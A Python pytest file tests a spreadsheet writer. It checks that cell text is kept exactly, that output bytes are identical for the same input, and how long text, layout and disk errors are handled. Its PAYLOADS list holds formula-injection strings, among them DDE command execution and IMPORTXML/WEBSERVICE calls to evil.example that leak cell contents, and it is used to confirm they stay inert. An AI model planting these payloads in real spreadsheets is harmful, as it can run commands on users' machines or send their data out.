"""The file itself: text stays text, nothing is lost, the same bytes twice."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from office_program import shown
from openpyxl import load_workbook

from lltic.reports.tables import Column, Sheet
from lltic.reports.workbook import write_workbook

MADE_AT = datetime(2026, 11, 3, 9, 30, tzinfo=UTC)
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "=",
    "==",
    "{=1+1}",
    "'=1+1",
    "#N/A",
    "#REF!",
    "=1+1\n=2+2",
    "\x0b=1+1",
    "_x003D_1+1",
    "_x000D_",
    "1e5",
    "00123",
    "TRUE",
    "2026-11-03",
    "<b>&amp;</b>",
    " led by a space",
    "😀 " * 3,
]


def one_column(*texts: str) -> Sheet:
    columns = (Column("No", "integer"), Column("Words", width=30))
    rows = tuple(enumerate(texts, 1))
    return Sheet("Words", "Words", ("A note.",), columns, rows)


def write(path: Path, *sheets: Sheet):
    return write_workbook(
        path, sheets, title="A study", footer="Synthetic & so on", made_at=MADE_AT
    )


def unescape(text: str) -> str:
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def test_every_payload_stays_text_and_comes_back(tmp_path: Path) -> None:
    path = tmp_path / "w.xlsx"
    write(path, one_column(*PAYLOADS))
    page = load_workbook(path)["Words"]
    cells = [row[1] for row in page.iter_rows(min_row=5)]
    expected = [p.replace("\x0b", "\n").replace("\r", "\n") for p in PAYLOADS]
    assert [unescape(cell.value) for cell in cells] == expected
    assert {cell.data_type for cell in cells} == {"s"}
    quoted = {p for p, cell in zip(expected, cells, strict=True) if cell.quotePrefix}
    assert quoted == {p for p in expected if p.startswith(("=", "+", "-", "@", "\t", "\n"))}
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml
    assert b"<f " not in xml


def test_the_same_check_sees_a_formula_written_carelessly(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["=1+1"])
    book.save(tmp_path / "careless.xlsx")
    assert load_workbook(tmp_path / "careless.xlsx").active["A1"].data_type == "f"


def test_an_office_program_shows_the_payloads_as_typed(tmp_path: Path, soffice: str) -> None:
    one_line = [p for p in PAYLOADS if not {"\x0b", "\r", "\n", "\t"} & set(p)]
    write(tmp_path / "w.xlsx", one_column(*one_line))
    lines = shown(soffice, tmp_path / "w.xlsx").splitlines()[4:]
    assert [line.split("\t", 1)[1] for line in lines] == one_line


def test_cleaning_is_reported_on_a_sheet_of_its_own(tmp_path: Path) -> None:
    report = write(tmp_path / "w.xlsx", one_column("fine", "from\x0bWord\x07"))
    assert [(c.sheet, c.row, c.column) for c in report] == [("Words", 6, "Words")]
    page = load_workbook(tmp_path / "w.xlsx")["Cleaned texts"]
    assert [cell.value for cell in page[page.max_row]] == [
        "Words",
        6,
        "Words",
        "2 control character(s) replaced",
    ]
    write(tmp_path / "clean.xlsx", one_column("fine"))
    assert load_workbook(tmp_path / "clean.xlsx").sheetnames == ["Words"]


def test_a_text_too_long_for_a_cell_goes_on_in_further_rows(tmp_path: Path) -> None:
    text = "".join(chr(97 + i % 26) for i in range(70_000))
    report = write(tmp_path / "w.xlsx", one_column("short", text, "after"))
    page = load_workbook(tmp_path / "w.xlsx")["Words"]
    rows = [[cell.value for cell in row] for row in page.iter_rows(min_row=5)]
    assert [row[0] for row in rows] == [1, 2, 2, 2, 3]
    assert "".join(row[1] for row in rows[1:4]) == text
    assert [row[2] for row in rows] == [None, "1 of 3", "2 of 3", "3 of 3", None]
    assert report[0].what == "70,000 characters, continued over 3 rows"


def test_the_same_sheets_give_the_same_bytes(tmp_path: Path) -> None:
    first, second, later = (tmp_path / f"{name}.xlsx" for name in "abc")
    for path in (first, second):
        write(path, one_column(*PAYLOADS))
    assert first.read_bytes() == second.read_bytes()
    write(later, one_column(*PAYLOADS[1:]))
    assert first.read_bytes() != later.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {member.date_time for member in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    properties = load_workbook(first).properties
    assert properties.created == properties.modified == MADE_AT.replace(tzinfo=None)


def test_a_sheet_is_ready_to_read_and_to_print(tmp_path: Path) -> None:
    columns = (Column("Name"), Column("Share", "percent"), Column("n", "integer"))
    rows = (("a", 0.1234, 5), ("b", None, "*"))
    warn = frozenset({(0, 2)})
    sheet = Sheet("S", "Title", ("One.", "Two."), columns, rows, warn=warn)
    write(tmp_path / "w.xlsx", sheet)
    page = load_workbook(tmp_path / "w.xlsx")["S"]
    assert page.freeze_panes == "A6"
    assert page.auto_filter.ref == "A5:C7"
    assert page.page_setup.orientation == "landscape"
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert (page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (1, 0)
    assert page["B6"].number_format == "0.0 %"
    assert page["C6"].fill.fgColor.rgb != page["C7"].fill.fgColor.rgb
    assert page["C7"].alignment.horizontal == "right"
    assert page["B7"].value is None
    assert page.oddFooter.left.text == "Synthetic && so on"


def test_a_full_disk_leaves_the_old_file(tmp_path: Path, monkeypatch) -> None:
    from lltic.errors import LlticError

    path = tmp_path / "w.xlsx"
    write(path, one_column("old"))
    before = path.read_bytes()

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(LlticError) as caught:
        write(path, one_column("new"))
    assert caught.value.codes == ("cannot-write",)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["w.xlsx"]
